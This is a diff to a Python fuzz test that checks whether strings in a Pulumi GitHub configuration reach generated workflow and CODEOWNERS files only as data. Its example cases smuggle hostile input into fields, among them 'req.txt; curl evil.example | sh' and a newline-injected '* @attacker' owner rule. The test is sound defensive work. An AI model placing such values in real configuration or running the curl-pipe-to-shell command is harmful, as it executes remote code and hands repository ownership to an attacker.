@@ -32,7 +32,11 @@ BASE = json.loads(FLAT[GITHUB])
 # Leaves prod leaves at their defaults, set so that they are fuzzed too.
 BASE["defaults"].update(
     homepageUrl="https://tbcoin.example.com/docs",
-    codeowners=[{"pattern": "/docs/", "owners": ["@tbcoin/docs", "docs@tbcoin.example.com"]}],
+    codeowners=[
+        {"pattern": "*", "owners": ["@tbcoin/team-leads"]},
+        {"pattern": "/.github/", "owners": ["@tbcoin/team-leads"]},
+        {"pattern": "/docs/", "owners": ["@tbcoin/docs", "docs@tbcoin.example.com"]},
+    ],
     workflows={"requirementsFile": "requirements.txt", "appImport": "app.main:app"},
     managedFiles={"branch": "platform/files", "commitAuthor": "bot", "commitEmail": "b@x.io"},
     dependabot={"timezone": "Europe/Berlin", "ecosystems": [{"ecosystem": "pip"}]},
@@ -112,7 +116,7 @@ def _run_scripts(node: Any) -> list[str]:
     return []
 
 
-BASELINE = _files(load_stack("Pulumi.prod.yaml", {**FLAT, GITHUB: json.dumps(BASE)}))
+BASELINE = _files(load_stack("Pulumi.prod.yaml", {**FLAT, GITHUB: json.dumps(BASE)}, stack="prod"))
 SCRIPTS = {p: _run_scripts(yaml.safe_load(t)) for p, t in BASELINE.items() if p.endswith(".yml")}
 
 
@@ -136,7 +140,7 @@ def _check(path: tuple[Any, ...], value: str) -> None:
     node[path[-1]] = value
     flat = {**FLAT, GITHUB: json.dumps(github)}
     try:
-        config = load_stack("Pulumi.prod.yaml", flat)
+        config = load_stack("Pulumi.prod.yaml", flat, stack="prod")
     except ConfigError as exc:
         for line in exc.render().split("\n"):
             assert line.startswith("Pulumi.prod.yaml: tbcoin-platform:"), line
@@ -161,7 +165,7 @@ def _check(path: tuple[Any, ...], value: str) -> None:
 # The cases of issue 18: a newline in a pin's version, in the requirements file, in a pattern.
 @example((("actionPins", "actions/checkout", "version"), "v4.2.2" + PAYLOADS[0]))
 @example((("defaults", "workflows", "requirementsFile"), "req.txt; curl evil.example | sh"))
-@example((("defaults", "codeowners", 0, "pattern"), "/docs/\n* @attacker"))
+@example((("defaults", "codeowners", 2, "pattern"), "/docs/\n* @attacker"))
 @example((("defaults", "securityPolicy", "supportedVersions", 0, "version"), PAYLOADS[9]))
 def test_config_strings_reach_generated_files_only_as_data(
     case: tuple[tuple[Any, ...], str],
@@ -223,7 +227,7 @@ def test_the_widest_accepted_values_leave_zizmor_clean(tmp_path: Path) -> None:
         },
     )
     github["actionPins"]["actions/checkout"]["version"] = "v4.2.2+build.1-rc_1"
-    config = load_stack("Pulumi.prod.yaml", {**FLAT, GITHUB: json.dumps(github)})
+    config = load_stack("Pulumi.prod.yaml", {**FLAT, GITHUB: json.dumps(github)}, stack="prod")
     folder = tmp_path / ".github" / "workflows"
     folder.mkdir(parents=True)
     for name, text in _files(config).items():
